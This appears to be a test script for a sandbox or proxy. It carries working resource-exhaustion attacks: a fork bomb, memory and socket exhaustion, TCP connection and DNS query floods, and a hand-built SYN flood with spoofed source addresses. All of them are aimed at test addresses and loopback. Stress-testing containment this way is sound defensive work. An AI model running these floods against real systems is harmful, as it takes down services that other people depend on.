#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""
attack.py KIND

Takes as much as it gets until it is killed, and says "under way" once it has met a limit or done enough to be felt. KIND is
one of

	forks		processes that fork
	memory		processes that take memory until they are killed for it
	sockets		10,000 sockets, half of them of TCP
	connections	connections to the proxy, each reset once its request is sent
	datagrams	queries to the DNS stub, whose answers nobody reads
	syns		connections to the proxy that nobody completes, from addresses that are not there; needs a packet socket
"""

import os
import random
import resource
import signal
import socket
import struct
import sys
import time

PROCESSES = 2  # that flood
REQUEST = b"GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n"
QUERY = b"\0\1\1\0\0\1\0\0\0\0\0\0\7allowed\4test\0\0\1\0\1"
PROXY_PORT = 1  # where the proxy listens


def say():
    print("under way", flush=True)


def forks():
    first = os.getpid()
    while True:
        try:
            os.fork()
        except OSError:
            if os.getpid() == first:
                say()
                first = None
            time.sleep(0.02)


def memory():
    while True:
        child = os.fork()
        if not child:
            blocks = []
            while True:
                blocks.append(bytearray(os.urandom(1 << 20)))
        if os.waitpid(child, 0)[1] == signal.SIGKILL:
            say()


def sockets():
    resource.setrlimit(resource.RLIMIT_NOFILE, (11000, 11000))
    kept = [socket.socket(socket.AF_INET, kind) for _ in range(5000) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
    say()
    while kept:
        signal.pause()


def flood(send):
    """Calls send() for ever, in several processes."""
    flooders = [os.getpid()]
    for _ in range(PROCESSES - 1):
        if not os.fork():
            flooders.clear()
            break
    count = 0
    while True:
        try:
            send()
        except OSError:
            pass
        count += 1
        if count == 2000 and flooders:
            say()


def connections():
    def send():
        with socket.socket() as client:
            client.connect(("11.0.0.2", 80))
            client.sendall(REQUEST)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    flood(send)


def datagrams():
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.connect(("192.0.0.8", 53))
    flood(lambda: client.send(QUERY))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def syns():
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    proxy = socket.inet_aton("192.0.0.8")

    def send():
        client = bytes((10, *random.randbytes(3)))
        segment = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), PROXY_PORT, 1, 0, 5 << 4, 2, 65535, 0, 0)
        total = checksum(client + proxy + struct.pack("!HH", 6, len(segment)) + segment)
        head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + client + proxy
        packet = head[:10] + struct.pack("!H", checksum(head)) + head[12:] + segment[:16] + struct.pack("!HH", total, 0)
        wire.sendto(packet, ("lo", 0x0800, 0, 0, b"\0" * 6))

    flood(send)


globals()[sys.argv[1]]()
